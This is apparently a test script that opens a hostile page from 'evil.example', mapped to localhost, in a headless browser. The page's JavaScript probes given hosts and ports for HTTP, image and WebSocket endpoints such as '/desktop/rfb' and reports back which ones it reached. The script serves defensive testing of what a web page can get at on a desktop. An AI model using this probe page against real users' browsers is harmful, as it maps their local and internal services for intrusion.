"""Shows a hostile page in the desktop's browser, and prints what it got at. Run on the desktop.

Arguments: hosts and ports to try, each as JSON; ``straight`` to pass by the desktop's proxy, else
only the page itself does. The page comes from a name that is then bound to
this machine anew; its own server is tried, too, as what can be reached.
"""

import http.server
import json
import os
import subprocess
import sys
import tempfile
import threading

PAGE = """<!doctype html><meta charset="utf-8"><script type="module">
const within = (seconds, answer) =>
  Promise.race([answer, new Promise((done) => setTimeout(done, seconds * 1000, false))])
const asks = (url) => fetch(url, { mode: "no-cors" }).then(() => true, () => false)
const shows = (url) => new Promise((done) => {
  const frame = document.body.appendChild(document.createElement("img"))
  frame.onload = () => done(true)
  frame.onerror = () => done(false)
  frame.src = url
})
const opens = (url) => new Promise((done) => {
  const socket = new WebSocket(url)
  socket.onopen = () => done(true)
  socket.onerror = () => done(false)
})
const [hosts, ports] = PLACES
const got = []
const attempt = async (what, answer, patience = 10) =>
  (await within(patience, answer)) && got.push(what)
const place = (host, port) => Promise.all([
  ...["/", "/dashboard", "/health"].map((path) => `http://${host}:${port}${path}`)
    .map((url) => attempt(url, asks(url))),
  attempt(`picture ${host}:${port}`, shows(`http://${host}:${port}/favicon.ico`)),
  ...["/dashboard/ws", "/desktop/rfb", "/voice/v0/evi/chat"]
    .map((path) => `ws://${host}:${port}${path}`).map((url) => attempt(url, opens(url))),
])
await Promise.all(hosts.flatMap((host) => ports.map((port) => place(host, port))))
const own = `${location.origin}/own`
await attempt(own, asks(own), 60)
await fetch("/got", { method: "POST", body: JSON.stringify(got) })
</script><body></body>"""

NAME = "evil.example"


class Evil(http.server.BaseHTTPRequestHandler):
    """The page's own server."""

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.end_headers()
        places = json.dumps([json.loads(text) for text in sys.argv[1:3]])
        self.wfile.write(PAGE.replace("PLACES", places).encode())

    def do_POST(self) -> None:
        got = self.rfile.read(int(self.headers["Content-Length"])).decode()
        self.send_response(204)
        self.end_headers()
        print(got, flush=True)
        threading.Thread(target=self.server.shutdown).start()

    def log_message(self, *said: object) -> None:
        """Nothing but what the page got is printed."""


def main() -> None:
    """See the module."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Evil)
    bound_anew = f"--host-resolver-rules=MAP {NAME} 127.0.0.1"
    own = f"{NAME}:{server.server_port}"
    straight = ("--no-proxy-server",) if sys.argv[3] == "straight" else ()
    with tempfile.TemporaryDirectory() as profile, tempfile.TemporaryFile("w+") as said:
        browser = subprocess.Popen(
            [
                *(
                    "chromium",
                    "--headless=new",
                    "--disable-gpu",
                    "--no-first-run",
                    bound_anew,
                    *straight,
                ),
                f"--user-data-dir={profile}",
                f"http://{NAME}:{server.server_port}/",
            ],
            env={**os.environ, "no_proxy": own, "NO_PROXY": own},
            stdout=said,
            stderr=said,
        )

        def gone() -> None:
            browser.wait()
            server.shutdown()

        threading.Thread(target=gone).start()
        server.serve_forever()
        if browser.poll() is not None:
            said.seek(0)
            sys.exit(f"The browser ended by itself: {said.read()[-2000:]}")
        browser.kill()
        browser.wait()


if __name__ == "__main__":
    main()
